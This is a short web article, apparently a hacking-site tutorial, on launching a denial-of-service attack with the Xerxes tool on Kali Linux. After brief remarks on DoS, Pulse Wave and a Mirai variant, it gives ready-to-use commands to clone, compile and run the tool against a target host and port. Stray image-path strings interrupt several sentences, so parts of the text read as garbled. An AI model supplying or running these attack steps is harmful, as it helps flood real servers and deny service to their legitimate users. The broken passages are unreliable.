Hacking, Hacking Tools, Vulnerability

Most Powerful DoS Tool XERXES – Kali Linux Tutorial

Kali Linux Tutorial

In this Kali Linux Tutorial, we show you how to use xerxes in launching a DOS attack.DDOS toolsare capable of putting heavy loads on HTTP servers and bring them to their knees by exhausting its resources.

What is DOS attack?

Type of attack which floods servers or networkswhich results in making the source inaccessible for the legitimate users.

Recently hackers introduced a new pattern of DDOS attack named Pulse wave which is capable of pin down Multiple targets, Pulse Wave doesn’t have ramp-up period as like classic DDoS attack all the sources are committed once and continued over its duration.

Also Read Inviteflood- Tool Used to Perform DOS attack on VOIP Network

Also, theMirai bot which used in targeting a College in the US, lasts for more than 54 Hours continuously and researchers believe it is a new variant of Mirai, one that is “more adept at launching application layer assaults.”

Xerxes – Kali Linux Tutorial

This tool was committedon Github by zanyarjamal, it is one of the simple and most powerful DOS tools. To clone the tool from Github.

gitclone https://github.com/zanyarjamal/xerxes.git

Then navigate to the cloned folder.

cd xerxes

Next, You Should compile with GNU GCC compiler

gcc xerxes.c -o xerxes

To launch the attack

./xerxes example.com 80

Kali Linux Tutorial

Source : GBHackers

Previous ArticleNext ArticleSend this to a friend